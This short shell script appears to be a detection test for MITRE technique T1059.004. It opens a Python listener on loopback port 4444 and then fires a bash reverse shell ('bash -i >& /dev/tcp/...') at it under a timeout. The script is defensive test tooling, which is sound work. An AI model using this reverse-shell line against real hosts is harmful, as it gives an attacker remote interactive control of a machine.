# T1059.004 Unix shell: bash reverse shell to a listener on the container's loopback
/usr/bin/python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 4444)); s.listen(1); c,_=s.accept(); c.recv(10); c.close()' &
sleep 0.5
timeout 5 bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' 2>/dev/null || true
wait
